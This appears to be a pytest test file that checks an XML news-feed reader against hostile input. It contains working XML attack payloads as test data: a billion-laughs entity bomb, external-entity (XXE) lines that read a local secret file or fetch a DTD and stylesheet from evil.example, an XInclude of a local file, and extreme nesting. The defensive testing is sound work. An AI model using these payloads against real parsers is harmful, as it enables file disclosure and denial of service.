"""XML that means harm: a line says so, nothing is fetched, memory stays bounded."""

from __future__ import annotations

import resource
import socket
import tracemalloc
from pathlib import Path

import pytest

from index.errors import UnreadableSource
from index.read import read_file

SECRET = "the harbour master's own key"
LAUGHS = '<!ENTITY l0 "lol">' + "".join(
    f'<!ENTITY l{n} "&l{n - 1};&l{n - 1};">' for n in range(1, 30)
)
ROOTS = {
    "a.rss": (
        '<rss version="2.0"><channel><title>T</title><item><title>',
        "</title></item></channel></rss>",
    ),
    "a.atom": (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><entry><title>',
        "</title></entry></feed>",
    ),
    "a.nitf": ("<nitf><body><body.content><p>", "</p></body.content></body></nitf>"),
    "a.newsml": (
        '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="g"><contentSet><inlineXML><p>',
        "</p></inlineXML></contentSet></newsItem>",
    ),
}  # fmt: skip


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a reader opened a connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def read(folder: Path, name: str, content: str) -> list[object]:
    path = folder / name
    path.write_text(content, encoding="utf-8")
    return list(read_file(path, name))


def wrap(name: str, inner: str, doctype: str = "") -> str:
    start, end = ROOTS[name]
    return f'<?xml version="1.0"?>{doctype}{start}{inner}{end}'


@pytest.mark.parametrize("name", ROOTS)
@pytest.mark.parametrize(
    "doctype",
    [
        f"<!DOCTYPE x [{LAUGHS}]>",
        '<!DOCTYPE x [<!ENTITY l29 SYSTEM "file://{secret}">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        "<!-- first --><?x y?><!DOCTYPE x [ <!-- > --> " + LAUGHS + "]>",
    ],
)
def test_entities_are_not_unfolded_or_fetched(tmp_path: Path, name: str, doctype: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    content = wrap(name, "&l29;", doctype.replace("{secret}", str(secret)))
    tracemalloc.start()
    [fault] = read(tmp_path, name, content)
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert isinstance(fault, UnreadableSource)
    assert "declares entities of its own" in fault.reason
    assert most < 2**26  # the bomb is 1.6 GB; the buffer that a file is read into, 32 MiB


@pytest.mark.parametrize("name", ROOTS)
@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE x PUBLIC "-//X//Y" "file:///etc/hostname" [ ]>',
        '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
    ],
)
def test_what_stands_outside_is_left_alone(tmp_path: Path, name: str, doctype: str) -> None:
    [draft] = read(tmp_path, name, wrap(name, "The ferry&nbsp;sails.", doctype))
    assert not isinstance(draft, UnreadableSource)


@pytest.mark.parametrize("name", ROOTS)
def test_a_link_into_the_file_system_is_not_followed(tmp_path: Path, name: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    include = f'The ferry <include xmlns="http://www.w3.org/2001/XInclude" href="{secret}"/> sails.'
    for draft in read(tmp_path, name, wrap(name, include)):
        assert SECRET not in repr(draft)


@pytest.mark.parametrize("name", ROOTS)
@pytest.mark.parametrize("depth", [300, 1_000, 200_000])
def test_deep_nesting_gets_a_line(tmp_path: Path, name: str, depth: int) -> None:
    [fault] = read(tmp_path, name, wrap(name, "<p>" * depth + "deep" + "</p>" * depth))
    assert isinstance(fault, UnreadableSource) and "nested too deep" in fault.reason


@pytest.mark.parametrize("name", ROOTS)
def test_a_file_of_one_endless_element_takes_bounded_memory(tmp_path: Path, name: str) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    [fault] = read(tmp_path, name, wrap(name, "a" * 40 * 2**20))
    assert isinstance(fault, UnreadableSource) and "larger than 32 MiB" in fault.reason
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown < 300  # MiB: the file is written as one string here, too
